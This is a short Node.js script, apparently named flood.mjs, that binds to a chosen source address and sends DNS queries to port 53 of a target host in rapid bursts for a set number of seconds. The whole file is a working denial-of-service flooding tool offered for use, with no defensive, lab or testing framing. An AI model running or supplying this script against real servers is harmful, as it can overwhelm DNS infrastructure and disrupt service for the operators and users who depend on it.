// Sends questions as fast as it can, from the address that it is given: node flood.mjs FROM TO SECONDS
import { createSocket } from 'node:dgram';

const [, , from, to, seconds] = process.argv;
const question = Buffer.from('1234010000010000000000000377656200000100 01'.replace(' ', ''), 'hex');
const socket = createSocket('udp4');
socket.on('error', () => {});
socket.bind(0, from, () => {
  const end = Date.now() + Number(seconds) * 1000;
  let sent = 0;
  const burst = () => {
    for (let n = 0; n < 100; n++) socket.send(question, 53, to, () => {});
    sent += 100;
    if (Date.now() < end) setImmediate(burst);
    else {
      console.log(sent);
      process.exit(0);
    }
  };
  burst();
});
